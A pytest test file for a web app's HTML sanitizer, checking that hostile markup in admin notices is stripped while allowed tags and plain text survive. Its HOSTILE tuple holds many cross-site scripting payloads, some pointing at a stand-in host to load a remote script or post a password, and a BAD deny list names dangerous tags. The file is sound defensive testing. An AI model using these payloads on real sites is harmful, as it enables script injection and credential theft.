"""Rich text: hostile markup is neither stored nor shown, allowed tags stay, plain text stays as typed."""

from __future__ import annotations

from datetime import date
from typing import TYPE_CHECKING, Any

import pytest

from app.models.base import utc_now
from app.services.base import rich_text
from app.services.home import notices_admin
from app.views.words.rich_text import rich_text as shown

if TYPE_CHECKING:
    from collections.abc import Callable

    from app.domain.actor import Actor
    from app.models import Notice

    ActorOf = Callable[[str], Actor]

TODAY = date(2026, 11, 25)


HOSTILE = (
    "<script>alert(1)</script>",
    "<p>a</p><SCRIPT src=//evil.invalid/x.js></SCRIPT>",
    "<p onclick=alert(1)>a</p>",
    "<p style='position:fixed'>a</p><style>*{display:none}</style>",
    "<a href='javascript:alert(1)'>a</a>",
    "<a href=' java&#x09;script:alert(1)'>a</a>",
    "<a href='JaVaScRiPt:alert(1)'>a</a>",
    "<a href='vbscript:x'>a</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>a</a>",
    "<a href='//evil.invalid'>a</a>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>a</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<iframe src='https://evil.invalid'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,x'></object><embed src=x>",
    "<form action='https://evil.invalid'><input name=password><button>a</button></form>",
    "<base href='https://evil.invalid/'><meta http-equiv=refresh content='0;url=https://evil.invalid'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<p id=main class=flash>a</p>",
    "<video><source onerror=alert(1)></video>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "&lt;script&gt;<x>alert(1)",
)


BAD = ("<script", "<style", "<svg", "<math", "<img", "<iframe", "<object", "<embed", "<form", "<input", "<base",
       "<meta", "<video", "<!--", " on", "style=", "class=", "id=", "script:", "data:", "href=")  # fmt: skip


def notice(actor: Actor, **values: Any) -> Notice:
    """Write a notice in force for everybody, but for what is given."""
    told = {"title": "维护（示例）", "text": "今晚", "roles": [], "valid_from": TODAY, "valid_to": None, **values}
    return notices_admin.create(actor, told, now=utc_now())


@pytest.mark.function("5.2.7")
@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_markup_is_neither_stored_nor_shown(actor: ActorOf, text: str) -> None:
    stored = notice(actor("admin"), text=text).text
    # what is shown is cleaned again, so a text that came in some other way is no worse
    for html in (stored, str(shown(stored)), str(shown(text))):
        assert [bad for bad in BAD if bad in html.lower()] == []


@pytest.mark.function("5.2.7")
def test_allowed_tags_stay_and_links_are_marked(actor: ActorOf) -> None:
    text = (
        "<h3>维护</h3><p><strong>今晚</strong> <em>22:00</em></p><ul><li>一</li></ul>"
        "<table><tbody><tr><td>1</td></tr></tbody></table>"
    )
    link = (
        '<p><a href="https://www.example.invalid/?a=1&amp;b=2">通知</a> <a href="mailto:a@example.invalid">写信</a></p>'
    )
    stored = notice(actor("admin"), text=text + link).text
    assert stored.startswith(text)
    assert stored.count('rel="nofollow noopener noreferrer"') == 2
    assert 'href="mailto:a@example.invalid"' in stored
    assert rich_text.cleaned(stored) == stored


def test_plain_text_stays_as_typed_and_shows_its_line_breaks(actor: ActorOf) -> None:
    text = "重量 < 30 kg & 体积\n第二行"
    assert notice(actor("admin"), text=text).text == text
    assert shown(text) == "重量 &lt; 30 kg &amp; 体积<br>第二行"


def test_line_breaks_between_words_of_rich_text_stay() -> None:
    typed = "第一行\n<strong>第二行</strong>\n<ul>\n<li>一</li>\n</ul>\n末行"
    assert rich_text.cleaned(typed).count("<br>") == 1
    assert rich_text.cleaned(rich_text.cleaned(typed)) == rich_text.cleaned(typed)
    assert rich_text.words("<p>甲</p><p>乙</p>") == "甲 乙"
